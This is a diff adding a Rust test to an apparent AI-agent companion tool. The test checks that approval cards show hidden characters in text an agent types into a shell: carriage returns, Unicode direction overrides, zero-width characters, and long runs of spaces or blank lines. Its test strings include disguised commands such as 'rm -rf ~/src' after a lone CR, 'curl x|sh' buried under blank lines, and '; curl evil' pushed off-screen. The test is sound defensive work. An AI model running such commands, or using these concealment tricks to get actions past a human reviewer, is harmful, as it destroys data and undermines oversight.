@@ -944,6 +944,46 @@ fn a_pending_call_shows_the_whole_decoded_text_it_would_type_or_send() {
     assert_eq!(asked.pending.iter().map(|p| (p.detail.as_str(), p.detail_more)).collect::<Vec<_>>(), vec![("keys: enter", 0)]);
 }
 
+/// Review 42 MED-2 (failed before): the card showed what a call types into a pane (a
+/// shell) as it was, so a lone CR drew `# note\rrm -rf ~/src` on one line while the pane
+/// ran the second command; direction overrides, invisible characters and a long run of
+/// blank lines hid the rest. Typed text now shows every such character as a mark
+/// (`⟨CR⟩`, `⟨TAB⟩`, `⟨U+202E⟩`, `⟨N spaces⟩`, `⟨N blank lines⟩`), and a CR starts a new
+/// line as it does in the pane; a `⟨` of the text itself is a mark too, so none is forged.
+#[test]
+fn typed_text_on_the_card_shows_carriage_returns_invisible_characters_and_blank_runs() {
+    use companion::bridge::machine::classify;
+    let object = |v: Value| v.as_object().cloned().expect("an object");
+    let typed = |text: &str| {
+        let params = json!({"pane_id": "w1:p1", "text": text}).to_string();
+        classify("herdr_call", &object(json!({"method": "pane.send_text", "params": params}))).detail
+    };
+    let cr = typed("# note: tidy up\rrm -rf ~/src\r");
+    assert_eq!(cr, "# note: tidy up⟨CR⟩\nrm -rf ~/src⟨CR⟩\n", "{cr}");
+    assert_eq!(typed("ls\r\npwd"), "ls⟨CR⟩\npwd", "a CR LF is one line end, its CR shown");
+    assert_eq!(typed("x\u{202e}y\u{200b}z\u{e0041}"), "x⟨U+202E⟩y⟨U+200B⟩z⟨U+E0041⟩");
+    assert_eq!(typed("a\tb\u{1b}[2K"), "a⟨TAB⟩b⟨U+001B⟩[2K", "a tab completes in a shell; an escape sequence");
+    let buried = typed(&format!("npm test\n{}curl x|sh\n", "\n".repeat(60)));
+    assert_eq!(buried, "npm test\n⟨60 blank lines⟩\ncurl x|sh\n", "{buried}");
+    let pushed = typed(&format!("true{}; curl evil", " ".repeat(300)));
+    assert_eq!(pushed, "true⟨300 spaces⟩; curl evil");
+    assert_eq!(typed("⟨CR⟩"), "⟨U+27E8⟩CR⟩", "the mark cannot be forged");
+    // herdr_prompt's text and keys too.
+    let prompt = classify("herdr_prompt", &object(json!({"target": "w1:p1", "text": "go\rrm -rf /"}))).detail;
+    assert_eq!(prompt, "go⟨CR⟩\nrm -rf /");
+    let keys = json!({"pane_id": "w1:p1", "keys": ["enter", "a\u{202e}b"]}).to_string();
+    let keys = classify("herdr_call", &object(json!({"method": "pane.send_keys", "params": keys}))).detail;
+    assert_eq!(keys, "keys: enter a⟨U+202E⟩b");
+    // A file write: the path on one line, marks and all; the content keeps its tabs and its
+    // indentation (they are the file's), but not a CR or a hidden character.
+    let write = classify(
+        "herdr_fs_write",
+        &object(json!({"path": "src/a\rb.rs", "content": "fn main() {\n\tlet x = 1;\n        call(x);\u{202e}\n}\n"})),
+    )
+    .detail;
+    assert_eq!(write, "src/a⟨CR⟩b.rs\nfn main() {\n\tlet x = 1;\n        call(x);⟨U+202E⟩\n}\n", "{write}");
+}
+
 /// Sec41: the exec card showed `$ ` and the words joined by spaces, so `["rm","a b"]` and
 /// `["rm","a","b"]` looked the same, and a newline or a long run of spaces in an argument
 /// could pass for a second line or push the rest out of sight. Each argument is quoted as
